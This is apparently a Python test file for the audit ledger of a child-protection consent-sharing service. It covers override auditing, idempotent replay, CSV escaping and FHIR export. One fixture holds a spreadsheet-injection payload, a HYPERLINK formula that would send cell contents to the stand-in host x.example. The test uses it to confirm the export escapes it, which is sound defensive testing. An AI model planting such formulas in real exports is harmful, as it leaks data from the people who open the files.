"""What the consent service records reaches the auditor's questions intact."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from sqlalchemy import Engine

from ehx.audit import queries
from ehx.audit.ledger import AuditLedger, Found
from ehx.consent import OverrideReview, ReviewOutcome
from ehx.consent.auditing import all_records, outbox_records
from ehx.database import migrate
from ehx.schemas import Agency
from ehx.schemas.audit import AuditRecord
from tests.consent.fakes import memory_engine
from tests.records import NOW, PLAN, example_events


def test_an_override_is_listed_with_its_rule_lawful_basis_and_review(engine: Engine) -> None:
    migrate(engine)
    consent, _, _ = memory_engine()
    out = consent.on_events(example_events(Agency.HEALTH, PLAN), NOW)
    ledger = AuditLedger(engine)
    ledger.append(outbox_records(out, NOW))
    [override] = [d for d in out.decisions if d.outcome.value == "override"]

    review = OverrideReview(
        override_id=override.decision_id,
        outcome=ReviewOutcome.COUNTERSIGNED,
        reviewed_by="tm-1",
        reviewed_at=NOW + timedelta(hours=2),
    )
    later = consent.on_record(review, NOW + timedelta(hours=2))
    ledger.append(all_records(later, [review], NOW + timedelta(hours=2)))

    [row] = queries.overrides(ledger)
    assert row["agency"] == "mash" and row["event_ids"][0] == str(override.event_id)
    assert "child_protection_plan" in row["bases"]
    assert any("s.47" in basis for basis in row["bases"])  # the lawful basis, in words
    assert [(r["by"], r["outcome"]) for r in row["reviews"]] == [("tm-1", "countersigned")]
    # Replaying the same outputs (a crash before the offset commit) adds nothing.
    assert ledger.append(outbox_records(out, NOW)) == []
    # Deliveries: the MASH received the flag under the override, and nobody else did.
    received = {row["agency"] for a in ("mash", "schools") for row in queries.received(ledger, a)}
    assert received == {"mash"}


def _entry(**fields: str) -> Found:
    record = AuditRecord(
        action="timeline.read",
        actor=fields.get("actor", "dsl-1"),
        role="schools_practitioner",
        agency="schools",
        purpose=fields.get("purpose", "case work"),
        family_id="f00000001",
        at=NOW,
    )
    return Found(1, record)


def test_a_reader_s_formula_reaches_the_csv_as_text_not_as_a_formula() -> None:
    # Finding 9: reader and purpose came from the caller, straight into a spreadsheet.
    entry = _entry(actor='=HYPERLINK("http://x.example/?"&A1,"Open")', purpose="+1-2")
    [_, row] = list(csv.reader(io.StringIO(queries.as_csv([entry]))))
    cells = dict(zip(queries.CSV_COLUMNS, row, strict=True))
    assert cells["actor"].startswith("'=HYPERLINK(") and cells["purpose"] == "'+1-2"
    assert cells["family_id"] == "f00000001"  # ordinary cells as they were


def test_an_entry_with_no_reader_named_still_exports_to_fhir() -> None:
    # Finding 8: an empty reader= made every export that included it a 500.
    event = queries.as_fhir(_entry(actor="", purpose=""))
    assert event["agent"][0]["who"]["identifier"]["value"] == "(not named)"
    assert event["purposeOfEvent"] == [{"text": "(none given)"}]
